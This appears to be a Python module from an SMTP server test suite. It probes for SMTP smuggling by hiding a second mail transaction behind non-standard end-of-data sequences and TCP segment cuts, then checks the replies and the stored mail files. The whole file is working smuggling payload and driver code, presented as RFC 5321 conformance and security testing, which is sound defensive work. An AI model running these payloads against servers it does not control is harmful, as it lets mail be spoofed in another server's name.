"""A second mail inside the text of a first one, behind an end of text that is none: every mixture of CR, LF, NUL and what some take for
them around the dot, and every place where TCP may cut the text. What counts is what came of it: replies, and files where they
can be seen."""

import itertools
import time

from attacks.client import CLOSED
from attacks.target import attempt, new_token, together

CLAUSE = "RFC 5321 4.1.1.4 and 2.3.8"
WHY = "Whoever may write a text can send further mails in the name of the server that forwards it"
# What stands for a line end before and behind the dot.
ENDS = {"CRLF": b"\r\n", "LF": b"\n", "CR": b"\r", "nothing": b"", "LF CR": b"\n\r", "CR LF CR": b"\r\n\r", "CR NUL LF": b"\r\0\n",
        "CRLF NUL": b"\r\n\0", "NUL": b"\0", "blank CRLF": b" \r\n", "CRLF blank": b"\r\n ", "VT": b"\v", "FF": b"\f",
        "NEL": b"\xc2\x85", "U+2028": b"\xe2\x80\xa8", "CR CR": b"\r\r", "LF LF": b"\n\n", "0x85": b"\x85"}
SHORT_ENDS = ("CRLF", "LF", "CR", "nothing", "LF CR", "CR NUL LF", "CRLF NUL", "NUL")
# Ends whose cuts are tried too, each at every octet.
CUT_ENDS = (("LF", "CRLF"), ("CRLF", "LF"), ("LF", "LF"), ("CR", "CRLF"), ("CRLF", "CR"), ("CRLF", "CR NUL LF"), ("CRLF NUL", "CRLF"))
CUT_SECONDS = 0.03


def variants(target):
    """Name and octets of all ends that are none. What has CRLF dot CRLF in it is one."""
    names = SHORT_ENDS if target.is_short else ENDS
    for before, behind in itertools.product(names, names):
        octets = ENDS[before] + b"." + ENDS[behind]
        if b"\r\n.\r\n" not in octets and (before, behind) != ("nothing", "nothing"):
            yield f"{before} dot {behind}", octets


def smuggler(target, end, token):
    """The text of a mail, in which another one stands behind `end`."""
    inner = (f"MAIL FROM:<{target.sender}>\r\nRCPT TO:<{target.rcpt}>\r\nDATA\r\n"
             f"Subject: smuggled {token}\r\n\r\nsmuggled\r\n.\r\n").encode()
    return f"Subject: outer {token}\r\n\r\ntext".encode() + end + inner


def send_cut(peer, octets, cuts):
    at = 0
    for cut in (*cuts, len(octets)):
        if at:
            time.sleep(CUT_SECONDS)
        if not peer.raw(octets[at:cut]):
            return
        at = cut


def codes_after(target, octets, cuts=()):
    """The codes of all replies to this text, that of the QUIT behind it included."""
    with target.mail() as peer:
        send_cut(peer, octets, cuts)
        first = peer.reply()
        return [first.code, *(peer.rest() if first != CLOSED else [])]


def what_came(codes):
    """Of one text: None where it has one reply, else "attack" when a second mail was taken, and "rfc" when no mail came of what was
    taken for commands behind the false end."""
    first, more = codes[0], [code for code in codes[1:] if code not in (221, 421)]
    if first is None or not more or first >= 400 and all(code >= 400 for code in more):
        return None
    return "attack" if 354 in more and 250 in more[more.index(354):] else "rfc"


def judge(report, results):
    """`results`: (name, codes) pairs. All ends of which the same came are one finding."""
    came = {}
    for name, codes in results:
        if codes and (grade := what_came(codes)):
            came.setdefault((grade, " ".join(map(str, codes))), []).append(name)
    for (grade, codes), ends in came.items():
        how = ("and a second mail was taken" if grade == "attack" else
               "and what stands behind it is read as commands, though no mail came of it")
        report.found(grade, f"a false end ends a text, {how}: {'; '.join(ends)}", WHY + f"; replies: {codes}", CLAUSE)


def try_variants(target, report, tokens):
    def one(variant):
        name, end = variant
        tokens[name] = new_token()
        return codes_after(target, smuggler(target, end, tokens[name]))

    results = [(name, codes) for (name, _), codes in together(report, one, variants(target))]
    judge(report, results)
    return [name for name, codes in results if codes and what_came(codes)]


def cut_variants(target, known):
    """Name, end, and octets of the text behind which it is cut. Ends that are known to end a text uncut are cut where a server that
    wants no commands in a stream sees none: behind each line."""
    for before, behind in CUT_ENDS[:2] if target.is_short else CUT_ENDS:
        name, end = f"{before} dot {behind}", ENDS[before] + b"." + ENDS[behind]
        text = smuggler(target, end, "gp" + 16 * "0")
        at = text.index(b"text") + 4
        inner = at + len(end)
        yield f"{name}, cut behind it and behind each line", end, [inner] + [
            place + 2 for place in range(inner, len(text) - 2) if text[place:place + 2] == b"\r\n"]
        if name not in known:
            yield from ((f"{name}, cut after {cut} octets of it", end, [at + cut]) for cut in range(len(end) + 1))


def try_cuts(target, report, tokens, known):
    def one(variant):
        name, end, cuts = variant
        tokens[name] = new_token()
        return codes_after(target, smuggler(target, end, tokens[name]), cuts)

    judge(report, [(name, codes) for (name, _, _), codes in together(report, one, cut_variants(target, known))])


def try_true_ends(target, report):
    """The true end is one wherever it is cut, even octet by octet, and dots before it are doubled by the client."""
    token = new_token()
    text = f"Subject: cut {token}\r\n\r\n..\r\n..two\r\n.\r\n".encode()
    body = text.index(b"\r\n\r\n")
    cuts = [[cut] for cut in range(body, len(text))] + [list(range(1, len(text)))]
    cuts = cuts[::3] + cuts[-1:] if target.is_short else cuts
    accepted = 0
    for cut, codes in together(report, lambda cut: codes_after(target, text, cut), cuts):
        if codes:
            accepted += codes[0] == 250
            if codes[0] != 250 or any(code != 221 for code in codes[1:]):
                report.found("rfc", f"a text that TCP cuts at {str(cut)[:40]} is answered {codes}",
                             "The cut of segments must not matter", CLAUSE)
    return token, accepted


def look_at_files(target, report, tokens, true_token, accepted):
    attempt(report, target.settle)
    for name, token in tokens.items():
        stored = target.stored(token)
        if any(f"Subject: outer {token}".encode() not in octets for octets in stored):
            report.found("attack", f"{name}: the smuggled mail was stored as one of its own", WHY, CLAUSE)
    stored = target.stored(true_token)
    if len(stored) != accepted:
        report.found("rfc", f"of {accepted} accepted texts {len(stored)} are there", "A 250 is a promise", "RFC 5321 4.2.5")
    for octets in stored:
        lines = octets.replace(b"\r\n", b"\n").split(b"\n\n", 1)[1].split(b"\n")
        if lines[:2] != [b".", b".two"]:
            report.found("rfc", f"of doubled dots came {lines[:2]}", "Lines that begin with a dot are changed", "RFC 5321 4.5.2")


def attack(target, report):
    tokens = {}
    known = try_variants(target, report, tokens)
    try_cuts(target, report, tokens, known)
    true_token, accepted = try_true_ends(target, report)
    if target.maildir:
        look_at_files(target, report, tokens, true_token, accepted)
    else:
        report.note("judged by replies alone; with --maildir stored mails are counted too")
